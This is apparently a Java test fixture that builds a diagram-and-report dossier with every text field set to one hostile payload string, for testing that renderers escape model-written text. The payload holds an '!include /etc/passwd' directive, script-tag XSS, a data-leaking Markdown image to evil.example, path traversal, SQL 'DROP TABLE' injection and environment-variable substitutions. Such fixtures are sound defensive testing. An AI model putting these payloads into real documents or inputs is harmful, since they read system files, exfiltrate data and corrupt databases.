package dev.architect.deliverables.testing;

import static dev.architect.dossier.ValueType.*;

import dev.architect.dossier.*;
import java.util.List;

/**
 * A valid dossier in which every free-text field holds text a hostile or confused model could write: quotes,
 * line breaks followed by PlantUML directives, {@code @enduml}, HTML, a Markdown image that would leak data,
 * path traversal, SQL injection, PlantUML function calls, DSL and shell substitutions, Unicode line separators.
 * Entity and field names are SQL reserved words, which are valid names but must be quoted.
 */
public final class HostileDossier {

    /** The payload; {@link #evil(String)} prefixes it with a tag so names stay distinct. */
    public static final String PAYLOAD = "\"quoted\" it's\n!include /etc/passwd\n@enduml\r\n<script>alert(1)</script> "
            + "![x](https://evil.example/?q=secret) [link](https://evil.example/) [[https://evil.example/plantuml]] "
            + "<img:https://evil.example/x.png> ../../x '; DROP TABLE x; -- %getenv(\"HOME\") ${HOME} $x "
            + "\u2028!theme spacelab\u2029\u0085/' comment '/ | cell | `code` <b>bold</b> &amp; \\";

    private HostileDossier() {
    }

    public static String evil(String tag) {
        return tag + " " + PAYLOAD;
    }

    public static Consultation create() {
        Requirements requirements = new Requirements(
                List.of(new FunctionalRequirement("fr-1", evil("title"), evil("description"), Priority.MUST)),
                List.of(new QualityAttribute("qa-1", QualityAttributeType.PERFORMANCE, evil("scenario"), evil("metric"), 300, evil("unit"))),
                List.of(evil("constraint")),
                List.of(new Assumption("as-1", evil("topic"), evil("statement"), evil("value"))),
                List.of(new OpenQuestion("oq-1", evil("question"), evil("why"), List.of(evil("a"), evil("b")), evil("a"))));
        DecisionOption first = new DecisionOption(evil("option one"), evil("summary"), List.of(evil("pro")), List.of(evil("con")),
                evil("cost"), Complexity.LOW);
        DecisionOption second = new DecisionOption(evil("option two"), null, List.of(evil("pro")), List.of(evil("con")),
                evil("cost"), Complexity.HIGH);
        Decision traversal = new Decision("adr-1", "../../../etc/passwd " + PAYLOAD, DecisionTopic.ARCHITECTURE_STYLE,
                DecisionStatus.ACCEPTED, evil("context") + "\n\n# Heading\n\n- list", List.of(evil("driver")), List.of(first, second),
                first.name(), evil("rationale"), List.of(Consequence.good(evil("good")), Consequence.bad(evil("bad"))), List.of("app"));
        Decision punctuation = new Decision("adr-2", "\"'<>!/\\..", DecisionTopic.DATASTORE, DecisionStatus.PROPOSED,
                evil("context"), List.of(), List.of(first, second), second.name(), evil("rationale"), List.of(), List.of());
        C4Model c4 = new C4Model(
                List.of(new Person("user", evil("person"), evil("description"), true)),
                List.of(new SoftwareSystem("sys", evil("system"), evil("description"), false),
                        new SoftwareSystem("ext", evil("system"), evil("description"), true)),
                List.of(new Container("app", evil("container"), "sys", ContainerKind.SERVICE, evil("technology"), evil("description")),
                        new Container("db", evil("container"), "sys", ContainerKind.DATABASE, evil("technology"), evil("description")),
                        new Container("queue.main", evil("container"), "sys", ContainerKind.MESSAGE_BROKER, evil("technology"), null)),
                List.of(new Component("app.api", evil("component"), "app", evil("technology"), evil("description")),
                        new Component("app_api", evil("component"), "app", null, null)),
                List.of(new Relationship("user", "app", evil("relationship"), evil("technology"), Interaction.SYNC),
                        new Relationship("app.api", "db", evil("relationship"), null, Interaction.SYNC),
                        new Relationship("app_api", "queue.main", evil("relationship"), evil("technology"), Interaction.ASYNC),
                        new Relationship("app_api", "ext", evil("relationship"), evil("technology"), Interaction.SYNC)));
        SequenceDiagram flow = new SequenceDiagram("seq-1", evil("sequence"), evil("description"), List.of("user", "app", "db"),
                List.of(new SequenceStep("user", "app", evil("message"), MessageKind.SYNC),
                        new SequenceStep("app", "db", evil("message"), MessageKind.ASYNC),
                        new SequenceStep("db", "app", evil("message"), MessageKind.REPLY)));
        ApiSpec api = new ApiSpec("api-1", evil("api title"), evil("version"), "app", evil("description"), "/v1", ApiAuth.OAUTH2,
                List.of(new ApiOperation("getThing", HttpMethod.GET, "/things/{thingId}", evil("summary"), evil("description"),
                        List.of(evil("tag")), List.of(new ApiParameter("thingId", ParameterLocation.PATH, UUID, true, evil("parameter"))),
                        null, List.of(new ApiResponse(200, evil("response"), "Thing", false), ApiResponse.of(404, evil("missing"), null)), true),
                        new ApiOperation("putThing", HttpMethod.PUT, "/things/{thingId}", evil("summary"), null, List.of(),
                                List.of(new ApiParameter("thingId", ParameterLocation.PATH, UUID, true, null)), "Thing",
                                List.of(ApiResponse.of(204, evil("stored"), null)), true)),
                List.of(new SchemaDefinition("Thing", evil("schema"), List.of(
                        new SchemaProperty("name", STRING, null, null, true, true, evil("property")),
                        new SchemaProperty("parts", ARRAY, STRING, null, false, true, evil("property"))))));
        DataModel data = new DataModel(List.of(
                new Entity("user", "app", evil("entity"), List.of(new EntityField("id", DataType.UUID, false, true, evil("field")),
                        new EntityField("select", DataType.TEXT, true, true, evil("field"))), List.of("id"), List.of()),
                new Entity("order", "app", evil("entity"), List.of(EntityField.of("id", DataType.BIGINT),
                        new EntityField("user", DataType.UUID, true, false, evil("field"))), List.of("id"),
                        List.of(new EntityRelation("user", "user", Cardinality.MANY_TO_ONE)))));
        List<TechChoice> stack = List.of(new TechChoice(TechCategory.OTHER, evil("choice"), List.of(evil("alternative")),
                evil("justification"), "adr-1"));
        List<Risk> risks = List.of(new Risk("risk-1", evil("risk"), evil("description"), 4, 5, evil("mitigation"), evil("owner"),
                RiskStatus.OPEN, List.of("adr-1"), List.of("app")));
        OperationsPlan ops = new OperationsPlan(
                List.of(new ServiceLevelObjective("slo-1", evil("slo"), evil("indicator"), 99.9, evil("window"), "app")),
                List.of(evil("monitoring")),
                List.of(new Alert(evil("alert"), evil("condition"), AlertSeverity.PAGE, evil("action"), "slo-1")),
                new BackupAndRecovery(evil("strategy"), 5, 30, evil("schedule"), evil("retention"), evil("drill")),
                List.of(evil("ci")), List.of(evil("iac")), List.of(evil("scan")));
        CapacityPlan capacity = new CapacityPlan(List.of(new Estimate("peak", evil("estimate"), 10, evil("unit"), evil("basis"))));
        CostEstimate cost = new CostEstimate("USD", List.of(new CostLineItem("compute", evil("item"), "app", 2, evil("unit"), 10, 20,
                evil("assumption"))), 20, 720, evil("price date"), List.of(evil("cost assumption")));
        Roadmap roadmap = new Roadmap(List.of(new RoadmapPhase("phase-1", evil("phase"), evil("goal"), 4, List.of(evil("deliverable")),
                List.of(evil("exit")), List.of())));
        MigrationPlan migration = new MigrationPlan(MigrationStrategy.STRANGLER_FIG, evil("migration"),
                List.of(new MigrationStep("m-1", evil("step"), evil("description"), List.of(evil("exit")))), evil("data"),
                List.of(evil("rollback")));
        Metadata metadata = new Metadata(evil("provider"), evil("model"), "1", 0, 0, 0, List.of(), List.of(evil("warning")));
        return new Consultation(evil("system"), evil("summary"), requirements, List.of(traversal, punctuation), c4, List.of(flow),
                List.of(api), data, stack, risks, ops, capacity, cost, roadmap, migration, metadata);
    }
}
